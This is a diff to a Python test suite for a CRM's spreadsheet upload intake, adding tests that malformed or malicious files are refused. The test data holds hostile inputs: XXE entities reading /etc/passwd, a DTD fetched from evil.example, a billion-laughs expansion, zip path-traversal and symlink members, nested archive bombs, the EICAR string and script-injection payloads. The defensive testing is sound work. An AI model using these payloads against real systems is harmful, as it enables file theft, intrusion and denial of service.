@@ -3,6 +3,7 @@
 import codecs
 import zipfile
 from datetime import date, datetime
+from itertools import pairwise
 from pathlib import Path
 
 import openpyxl
@@ -17,6 +18,7 @@ from crm.intake.seen import BLOCK, Seen
 from crm.intake.workbook import NUMBER
 from crm.kit.errors import Invalid
 
+EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
 CHINESE = "姓名,手机,城市\n张三,13800138000,杭州\n欧阳娜娜,13900139000,北京市朝阳区\n李喆,1,上海\n"
 GERMAN = "Name,Stadt\nMüller,Köln\nGünther Groß,Düsseldorf\nÅse Ærø,Tromsø\n"
 TAIWAN = "姓名,電話\n張三豐,09\n歐陽鋒,臺北市信義區\n陳怡君,高雄\n"
@@ -249,9 +251,10 @@ class TestWorkbook:
 
 
 class TestBombs:
-    def archive(self, path: Path, members: dict[str, bytes]) -> bytes:
+    def archive(self, path: Path, members: dict[str, bytes], *, packed: bool = True) -> bytes:
         parts = {"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": b"<workbook/>"} | members
-        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        how = zipfile.ZIP_DEFLATED if packed else zipfile.ZIP_STORED
+        with zipfile.ZipFile(path, "w", how) as archive:
             for name, data in parts.items():
                 archive.writestr(name, data)
         return path.read_bytes()
@@ -286,12 +289,71 @@ class TestBombs:
         assert laid.refused(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1") == "old_excel"
         assert laid.refused(b"PK\x03\x04 broken") == "workbook_broken"
 
-    def test_entities_are_not_followed(self, laid: Laid, tmp_path: Path) -> None:
-        evil = (
-            b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
-        )
-        raw = self.archive(tmp_path / "a", {"xl/worksheets/sheet1.xml": evil})
+    @pytest.mark.parametrize("encoding", ["ascii", "utf-16-le", "utf-16-be"])
+    @pytest.mark.parametrize(
+        "grammar",
+        [
+            '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
+            '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>',
+            '<!DOCTYPE l [<!ENTITY a "ha">'
+            + "".join(f'<!ENTITY {b} "&{a};&{a};&{a};&{a};">' for a, b in pairwise("abcdefghij"))
+            + "]><x>&j;</x>",
+        ],
+        ids=["other file", "other host", "billion laughs"],
+    )
+    def test_no_part_brings_a_grammar_of_its_own(
+        self, laid: Laid, tmp_path: Path, grammar: str, encoding: str
+    ) -> None:
+        evil = ("<?xml version='1.0'?>" + " " * 300_000 + grammar).encode(encoding)
+        raw = self.archive(tmp_path / "a", {"xl/worksheets/sheet1.xml": evil}, packed=False)
+        assert laid.refused(raw) == "workbook_broken"
+
+    @pytest.mark.parametrize(
+        "name", ["../../x.xml", "xl/../../x.xml", "/etc/x", "C:\\x", "..\\x", "xl/a\tb.xml"]
+    )
+    def test_no_part_lies_outside_of_its_archive(
+        self, laid: Laid, tmp_path: Path, name: str
+    ) -> None:
+        assert laid.refused(self.archive(tmp_path / "a", {name: b"x"})) == "workbook_broken"
+
+    def test_no_part_is_a_link(self, laid: Laid, tmp_path: Path) -> None:
+        link = zipfile.ZipInfo("xl/worksheets/sheet1.xml")
+        link.external_attr = 0o120777 << 16
+        self.archive(tmp_path / "a", {})
+        with zipfile.ZipFile(tmp_path / "a", "a") as archive:
+            archive.writestr(link, "/etc/passwd")
+        assert laid.refused((tmp_path / "a").read_bytes()) == "workbook_broken"
+
+    def test_an_archive_in_an_archive_stays_shut(self, laid: Laid, tmp_path: Path) -> None:
+        inner = self.archive(tmp_path / "b", {"xl/big.xml": b"0" * 90_000_000})
+        raw = self.archive(tmp_path / "a", {"xl/embeddings/b.xlsx": inner})
         assert laid.refused(raw) in ("workbook_broken", "empty_file")
+
+    def test_ten_thousand_sheets(self, laid: Laid, tmp_path: Path) -> None:
+        sheets = {f"xl/worksheets/sheet{no}.xml": b"<x/>" for no in range(10_000)}
+        assert laid.refused(self.archive(tmp_path / "a", sheets)) == "archive_bomb"
+
+
+class TestNotOurs:
+    @pytest.mark.parametrize(
+        ("content", "code"),
+        [
+            (b"\x1f\x8b\x08" + b"\0" * 50, "not_text"),
+            (b"{\\rtf1 x}", "not_text"),
+            (b"GIF89a,b\n1,2\n", "not_text"),
+            (EICAR, "no_rows"),
+            (b"<svg onload=alert(1)>\n<x>\n", None),
+            (b"<!doctype html>\n<script>alert(1)</script>\n", None),
+        ],
+    )
+    def test_other_files_are_refused_or_only_text(
+        self, laid: Laid, content: bytes, code: str | None
+    ) -> None:
+        """Markup is words like others: it is never handed back but escaped or as a download."""
+        if code is None:
+            assert laid.out(content).rows > 0
+        else:
+            assert laid.refused(content) == code
 
 
 def _guard_only(source: Path, *_: object) -> list[str]:
